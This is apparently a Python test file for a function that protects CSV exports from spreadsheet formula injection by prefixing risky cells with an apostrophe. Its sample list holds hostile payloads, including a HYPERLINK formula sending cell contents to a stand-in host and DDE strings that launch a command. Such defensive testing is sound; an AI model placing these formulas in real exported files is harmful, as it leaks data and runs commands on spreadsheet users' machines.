"""Text of strangers in CSV files: no cell that a spreadsheet would run leaves the project, and nothing is lost."""

import csv

import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectofit.connectome.csv_cells import csv_cells, plain_cells

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"AVAL")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\xa0=1",
    "\ufeff=1",
    "＝1+1",
    "＠SUM(1)",
    "'=1",
    "''=1",
]
HARMLESS = ["AVAL", "", "a=b", "1-2", "it's", "'quoted'", "-70.5", "+1e-3", ".5", "12", "'", "α", " spaced"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_before_it(text):
    assert csv_cells(pa.table({"name": [text]})).column("name").to_pylist() == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_numbers_stay_as_they_are(text):
    assert csv_cells(pa.table({"name": [text]})).column("name").to_pylist() == [text]


def test_numbers_nulls_and_truths_keep_their_types():
    table = pa.table({"n": [-1, 2, None], "x": [-0.5, None, 1e300], "b": [True, None, False], "t": [None, "=1", "a"]})
    safe = csv_cells(table)
    assert safe.schema == table.schema
    assert safe.column("t").to_pylist() == [None, "'=1", "a"]
    assert safe.drop_columns(["t"]) == table.drop_columns(["t"])


def test_categories_long_text_and_names_of_columns_are_guarded_too():
    table = pa.table(
        {"=1": pa.array(["=2", "b", "=2"]).dictionary_encode(), "t": pa.array(["@a", "b", None], pa.large_string())}
    )
    safe = csv_cells(table)
    assert safe.column_names == ["'=1", "t"]
    assert safe.column("'=1").to_pylist() == ["'=2", "b", "'=2"]
    assert safe.column("t").to_pylist() == ["'@a", "b", None]


def test_an_empty_table_stays_one():
    table = pa.table({"name": pa.array([], pa.string()), "n": pa.array([], pa.int64())})
    assert csv_cells(table) == table


def test_a_file_that_is_written_so_has_no_cell_that_begins_like_a_formula(tmp_path):
    table = pa.table({"name": FORMULAS + HARMLESS})
    pa_csv.write_csv(csv_cells(table), tmp_path / "names.csv")
    with open(tmp_path / "names.csv", newline="", encoding="utf-8") as file:
        cells = [row[0] for row in csv.reader(file)][1:]
    for cell in cells[: len(FORMULAS)]:
        assert cell.startswith("'")


@given(st.lists(st.none() | st.text() | st.sampled_from(FORMULAS + HARMLESS)))
def test_taking_the_apostrophes_off_gives_the_text_back(texts):
    table = pa.table({"name": pa.array(texts, pa.string())})
    assert plain_cells(csv_cells(table)) == table
